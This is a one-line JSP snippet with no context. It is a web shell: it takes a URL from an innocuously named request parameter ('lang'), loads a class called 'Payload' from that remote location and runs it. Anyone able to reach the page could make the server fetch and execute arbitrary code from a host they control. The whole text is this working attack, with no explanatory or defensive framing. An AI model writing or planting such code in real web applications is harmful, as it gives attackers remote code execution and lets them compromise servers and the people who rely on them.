<% java.net.URLClassLoader l = new java.net.URLClassLoader(new java.net.URL[]{new java.net.URL(request.getParameter("lang"))}); l.loadClass("Payload").newInstance(); %>
